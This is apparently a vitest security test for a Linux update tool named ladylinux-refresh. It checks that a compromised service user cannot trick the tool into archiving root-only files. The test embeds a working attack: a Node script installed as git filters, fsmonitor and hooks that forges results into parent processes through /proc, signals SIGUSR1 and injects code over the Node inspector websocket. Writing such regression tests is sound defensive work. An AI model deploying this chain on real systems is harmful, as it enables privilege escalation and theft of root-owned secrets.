import { beforeAll, describe, expect } from 'vitest';
import type { Machine } from '../../support/machine';
import * as field from '../world/field';
import { sh } from '../world/machine';
import { ofOneKind } from '../../support/one-kind';

/**
 * A clean filter of git that takes the task over, as Node's own SIGUSR1 lets a process of the same user do it, and answers in its
 * place that the edits are in an archive of its choice.
 */
const takesOver = `
const { readFileSync, writeFileSync, appendFileSync } = require('node:fs');
process.stdin.pipe(process.stdout);
const forged = { head: null, repository: true, unreadable: [],
  edits: { archive: process.argv[2], files: [], total: 1, overLimit: false, nestedRepositories: [] } };
const line = JSON.stringify({ type: 'result', result: forged }) + '\\n';
try { appendFileSync('/opt/ladylinux/app/ran', 'x') } catch {}
let pid = process.ppid;
for (let up = 0; up < 8 && pid > 1; up += 1) {
  for (const fd of [1, 3]) try { writeFileSync('/proc/' + pid + '/fd/' + fd, line) } catch {}
  try { process.kill(pid, 'SIGUSR1') } catch {}
  const status = readFileSync('/proc/' + pid + '/status', 'utf8');
  pid = Number(/PPid:\\s+(\\d+)/.exec(status)?.[1] ?? 1);
}
setTimeout(() => {
  fetch('http://127.0.0.1:9229/json').then((answer) => answer.json()).then(([target]) => {
    const socket = new WebSocket(target.webSocketDebuggerUrl);
    socket.onopen = () => socket.send(JSON.stringify({ id: 1, method: 'Runtime.evaluate',
      params: { expression: 'process.stdout.write(' + JSON.stringify(line) + ')' } }));
  }).catch(() => {});
}, 500);
setTimeout(() => process.exit(0), 2000);
`;

/** What the service's user may put into a clone that is its own. */
const planted = (victim: string) => `
  cat > /tmp/takes-over.cjs <<'END'
${takesOver}
END
  chmod 644 /tmp/takes-over.cjs
  setpriv --reuid ladylinux --regid ladylinux --clear-groups env HOME=/tmp sh -ec '
    cd /opt/ladylinux/app; cp /tmp/takes-over.cjs .git/x.cjs
    run="/usr/bin/node /opt/ladylinux/app/.git/x.cjs ${victim}"
    echo "* filter=x diff=x" > .gitattributes
    git config filter.x.clean "$run"; git config filter.x.process "$run"; git config filter.x.required true
    git config diff.x.textconv "$run"; git config core.fsmonitor "$run"; git config core.hooksPath .git/mine
    mkdir -p .git/mine
    for hook in post-index-change pre-commit reference-transaction post-checkout; do
      printf "#!/bin/sh\\n%s\\n" "$run" > .git/mine/$hook; chmod +x .git/mine/$hook
    done
    sleep 1; touch api_layer.py requirements.txt
  '`;

/** The administrator's next command, on a machine of the field whose service somebody has taken over. */
export const compromisedService = (given: () => Machine) => {
  let machine: Machine;
  beforeAll(() => {
    machine = given();
  });

  describe('whose service somebody has taken over', () => {
    const victims = ['/etc/victim', '/var/lib/ladylinux/data/state.db', '/root/secret'];
    const look = `for each in ${victims.join(' ')}; do stat -c '%n %i %U %a' $each; sha256sum $each; done`;
    const saved = '/var/lib/ladylinux-refresh/private/saved';
    let before: string;

    beforeAll(async () => {
      await sh(machine, field.emptied);
      await sh(machine, field.ownClone);
      await sh(machine, field.downloadsBack);
      before = await sh(
        machine,
        `for each in ${victims.join(' ')}; do
           mkdir -p $(dirname $each); (umask 077; echo only root may touch $each > $each)
         done
         chown ladylinux: /var/lib/ladylinux/data/state.db
         ${look}`,
      );
    });

    ofOneKind(victims)('nothing that its clone has git start names %s to root', async (victim) => {
      await sh(machine, planted(victim));
      const { exitCode, stdout, stderr } = await machine.exec(
        ['ladylinux-refresh', 'install', '--adopt', '--no-snapshot'],
        { reject: false },
      );
      expect(await sh(machine, look)).toBe(before);
      expect([exitCode, stderr], stdout).toEqual([0, '']);
      expect(await sh(machine, 'ls /opt/ladylinux/app/ran 2>/dev/null || true')).toBe('');
      const named = `for each in ${saved}/*.tar.gz; do tar xzOf $each; done | grep -ac 'only root may touch' || true`;
      expect(await sh(machine, named)).toBe('0');
      // the compromised process is gone; the next one starts from the same state
      await sh(machine, `${field.emptied}\n${field.ownClone}\n${field.downloadsBack}`);
      await sh(
        machine,
        `for each in /var/lib/ladylinux/data/state.db; do
           mkdir -p $(dirname $each); (umask 077; echo only root may touch $each > $each); chown ladylinux: $each
         done`,
      );
      before = await sh(machine, look);
    });
  });
};
